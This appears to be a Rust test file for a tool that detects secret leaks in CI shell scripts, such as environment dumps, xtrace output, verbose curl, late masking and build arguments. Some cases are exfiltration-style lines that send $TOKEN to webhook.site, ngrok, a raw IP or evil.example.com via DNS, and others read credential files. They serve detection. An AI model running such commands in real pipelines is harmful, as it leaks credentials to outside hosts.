//! Other ends than the log.

use super::*;

#[test]
fn tracing_prints_what_is_expanded() {
    each(
        &[
            ("set -x\ncurl -H \"a: $TOKEN\" u", "Trace: TOKEN at set -x"),
            ("set -euxo pipefail\ncmd $TOKEN", "Trace: TOKEN at set -euxo pipefail"),
            ("set -o xtrace; X=$TOKEN", "Trace: TOKEN at set -o xtrace"),
            ("set -x\nX=$(echo $TOKEN | cut -c1-4)", "Trace: TOKEN at set -x; Trace: TOKEN by cut at set -x"),
            ("bash -xc 'cmd $TOKEN'", "Trace: TOKEN at bash -xc 'cmd $TOKEN'"),
            ("bash -x ./unknown.sh", "Trace: KEY at bash -x ./unknown.sh"),
            ("f() { cmd $TOKEN; }\nset -x\nf", "Trace: TOKEN at set -x"),
            ("set -v\ncmd ${{ X }}", "Trace: X at set -v"),
            ("set -v\ncmd $TOKEN", ""),
            ("set -x\necho hello\nset +x\ncmd $TOKEN", ""),
            ("(set -x; make)\ncmd $TOKEN", ""),
            ("cmd $TOKEN\nset -x\nmake", ""),
            ("set -e\ncmd $TOKEN", ""),
            ("set -- -x\ncmd $TOKEN", ""),
            ("PS4='+ '\ncmd $TOKEN", ""),
            ("{ set -x; cmd $TOKEN; } 2>/dev/null", ""),
        ],
        shell,
    );
}

#[test]
fn dumps_print_everything() {
    each(
        &[
            ("perl -e 'print \"$_=$ENV{$_}\\n\" for keys %ENV'", "Dump: KEY at perl -e 'print \"$_=$ENV{$_}\\n\" for keys %ENV'"),
            ("echo '_authToken=${TOKEN}' > .npmrc\ncat .npmrc", ""),
            ("echo \"_authToken=${TOKEN}\" >> .npmrc\ncat .npmrc", "TOKEN at cat .npmrc"),
            ("echo 'a=b' >> .npmrc\ncat .npmrc", "Dump: KEY at cat .npmrc"),
            ("env", "Dump: KEY at env"),
            ("printenv | sort", "Dump: KEY at printenv"),
            ("set", "Dump: KEY at set"),
            ("export -p", "Dump: KEY at export -p"),
            ("declare -p", "Dump: KEY at declare -p"),
            ("env | grep -v PATH", "Dump: KEY at env"),
            ("P=$(vault kv get -field=p x)\nenv", "Dump: KEY at env"),
            ("P=$(vault kv get -field=p x)\nexport P\nenv", "Dump: vault kv get fetched at env"),
            ("P=$(vault kv get -field=p x)\ndeclare -x P\nenv", "Dump: vault kv get fetched at env"),
            ("env | grep TOKEN", "Dump: TOKEN at env"),
            ("env | grep ^GITHUB_", ""),
            ("env | cut -d= -f1", ""),
            ("env > f", ""),
            ("env FOO=bar cmd", ""),
            ("env -i cmd", ""),
            ("printenv PATH", ""),
            ("env --null -u PATH", "Dump: KEY at env --null -u PATH"),
            ("cat /proc/self/environ", "Dump: KEY at cat /proc/self/environ"),
            ("tr '\\0' '\\n' < /proc/$$/environ", "Dump: KEY at /proc/$$/environ"),
            ("jq -n env", "Dump: KEY at jq -n env"),
            ("jq -n '$ENV'", "Dump: KEY at jq -n '$ENV'"),
            ("jq -n '$ENV | keys'", ""),
            ("jq -rn 'env.TOKEN'", "TOKEN at jq -rn 'env.TOKEN'"),
            ("jq -r .environment f", ""),
            ("yq -n '.a = strenv(TOKEN)'", "TOKEN at yq -n '.a = strenv(TOKEN)'"),
            ("yq -i '.a = strenv(TOKEN)' f", ""),
            ("ruby -e 'puts ENV[\"TOKEN\"]'", "TOKEN at ruby -e 'puts ENV[\"TOKEN\"]'"),
            ("ruby -e 'puts ENV.fetch(\"TOKEN\").length'", ""),
            ("perl -e 'print $ENV{TOKEN}'", "TOKEN at perl -e 'print $ENV{TOKEN}'"),
            ("awk 'BEGIN { print ENVIRON[\"TOKEN\"] }'", "TOKEN at awk 'BEGIN { print ENVIRON[\"TOKEN\"] }'"),
            ("sed \"s/__T__/$TOKEN/\" f", "TOKEN at $TOKEN"),
            ("sed -i \"s/__T__/$TOKEN/\" f", ""),
            ("sed \"s/$TOKEN/***/\" f", ""),
            ("sed \"s/__T__/$TOKEN/\" f > g", ""),
            ("echo '{}' | python3 -c \"import sys, json; print(json.load(sys.stdin)['x'])\"", ""),
            ("echo \"$TOKEN\" | python3 -c \"import sys, json; print(json.load(sys.stdin)['x'])\"", "TOKEN by json.load at sys.stdin"),
            ("set -e", ""),
            ("X=$(env)", ""),
            ("docker compose config", "Dump: KEY at docker compose config"),
            ("docker compose config --quiet", ""),
            ("terraform output -json", "Dump: KEY at terraform output -json"),
            ("terraform output -json vpc_id", ""),
            ("cat ~/.docker/config.json", "Dump: KEY at cat ~/.docker/config.json"),
            ("cat README.md", ""),
        ],
        shell,
    );
    let powershell = |script: &str| leaks_of(Language::Shell(Dialect::PowerShell), &[script]).join("; ");
    assert_eq!(powershell("Get-ChildItem env:"), "Dump: KEY at Get-ChildItem env:");
    assert_eq!(powershell("gci env:PATH"), "");
}

#[test]
fn arguments_that_others_see() {
    each(
        &[
            ("docker build --build-arg NPM=$TOKEN .", "BuildArgument: TOKEN at $TOKEN"),
            ("docker build --build-arg TOKEN .", "BuildArgument: TOKEN at TOKEN"),
            ("docker build --build-arg=A=\"$TOKEN\" .", "BuildArgument: TOKEN at $TOKEN"),
            ("docker buildx bake --set *.args.T=$TOKEN", "BuildArgument: TOKEN at $TOKEN"),
            ("docker build --secret id=t,env=TOKEN .", ""),
            ("docker build --build-arg VERSION=1 .", ""),
            ("docker login -u me -p $TOKEN ghcr.io", "Argument: TOKEN at $TOKEN"),
            ("git clone https://x:$TOKEN@github.com/a/b", "Argument: TOKEN at $TOKEN"),
            ("mysql -uroot -p$TOKEN", "Argument: TOKEN at $TOKEN"),
            ("helm upgrade a b --set db.password=$TOKEN", "Argument: TOKEN at $TOKEN"),
            ("helm upgrade a b --set image.tag=$TOKEN", ""),
            ("kubectl create secret generic a --from-literal=token=$TOKEN", "Argument: TOKEN at $TOKEN"),
            ("echo $TOKEN | docker login -u me --password-stdin", ""),
            ("curl -v -H \"Authorization: Bearer $TOKEN\" u", "Verbose: TOKEN at $TOKEN"),
            ("curl -sv -u me:$TOKEN u", "Verbose: TOKEN at $TOKEN"),
            ("curl -H \"Authorization: Bearer $TOKEN\" u", ""),
            ("curl -d \"t=$TOKEN\" https://webhook.site/x", "Collector: TOKEN at $TOKEN"),
            ("echo $TOKEN | curl -d @- https://abc.ngrok.io", "Collector: TOKEN at $TOKEN"),
            ("curl http://203.0.113.7/$TOKEN", "Collector: TOKEN at $TOKEN"),
            ("dig $TOKEN.evil.example.com", "Collector: TOKEN at $TOKEN"),
            ("curl -d \"t=$TOKEN\" http://localhost:8080", ""),
            ("curl -d \"t=$TOKEN\" https://collect.example.com/x", "Host: TOKEN at $TOKEN"),
            ("gh pr comment 1 --body \"t $TOKEN\"", "Comment: TOKEN at $TOKEN"),
            ("gh secret set X --body \"$TOKEN\"", ""),
            ("echo $TOKEN >> $GITHUB_STEP_SUMMARY", "Summary: TOKEN at $TOKEN"),
        ],
        shell,
    );
}

#[test]
fn masks_that_come_too_late_and_fields_that_get_none() {
    each(
        &[
            (
                "P=$(vault kv get -field=p x)\necho $P\necho \"::add-mask::$P\"",
                "vault kv get fetched at $P; LateMask: vault kv get fetched at $P",
            ),
            (
                "P=$(vault kv get -field=p x)\necho \"p=$P\" >> $GITHUB_OUTPUT\necho \"::add-mask::$P\"",
                "LateMask: vault kv get fetched at $P",
            ),
            ("echo $TOKEN > f; echo \"::add-mask::$TOKEN\"", ""),
        ],
        shell,
    );
    let mut state = State::default();
    let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
    state.bind("TOKEN", vec![taint]);
    let fields = |script: &str, state: &mut State| {
        let text = Text::plain(script, 0);
        let code = Code::plain(&text, SourceId(0), Language::Shell(Dialect::Posix));
        follow(&code, state);
        let fields = state.take_fields();
        fields.iter().filter(|leak| state.is_open(&leak.taint)).count()
    };
    assert_eq!(fields("P=$(echo $TOKEN | jq -r .p)", &mut state), 1);
    assert_eq!(fields("P=$(jq -r .p <<< $TOKEN)\necho \"::add-mask::$P\"", &mut state), 0);
    assert_eq!(fields("P=$(echo $TOKEN | cut -c1)", &mut state), 0);
}

#[test]
fn requests_that_are_printed_and_arguments_of_terraform() {
    each(
        &[
            ("curl -sv -X POST --data '{}' \"$TOKEN\"", "Verbose: TOKEN at $TOKEN"),
            ("curl -v -o $TOKEN https://github.com", ""),
            ("curl -s \"$TOKEN\"", ""),
            ("wget -d --header=\"a: $TOKEN\" https://github.com/x", "Verbose: TOKEN at $TOKEN"),
            ("wget -q --header=\"a: $TOKEN\" https://github.com/x", ""),
            ("http -v https://github.com/x \"a:$TOKEN\"", "Verbose: TOKEN at $TOKEN"),
            ("terraform apply -var \"a=$TOKEN\"", "TerraformVariable: TOKEN at $TOKEN"),
            ("tofu plan -var='a=${{ X }}'", "TerraformVariable: X at ${{ X }}"),
            ("terraform init -backend-config=\"secret_key=$TOKEN\"", "TerraformBackend: TOKEN at $TOKEN"),
            ("terraform init --backend-config \"secret_key=$TOKEN\"", "TerraformBackend: TOKEN at $TOKEN"),
            ("terraform init -backend-config=$TOKEN", ""),
            ("terraform apply -var-file=$TOKEN", ""),
            ("TF_VAR_a=$TOKEN terraform apply", ""),
            ("echo ${TOKEN:0:4} > body.md; gh pr comment 1 -F body.md", "Comment: TOKEN by the shell at body.md"),
            ("gh variable set A --body $TOKEN", "Comment: TOKEN at $TOKEN"),
            ("gh variable set A --body 1", ""),
            ("git remote add o https://x:$TOKEN@github.com/a/b\ngit remote -v", "Argument: TOKEN at $TOKEN; TOKEN at git remote -v"),
            ("git clone https://x:$TOKEN@github.com/a/b > log", "Argument: TOKEN at $TOKEN"),
            ("git remote -v", ""),
            ("echo \"::set-output name=x::$TOKEN\"", ""),
        ],
        shell,
    );
}
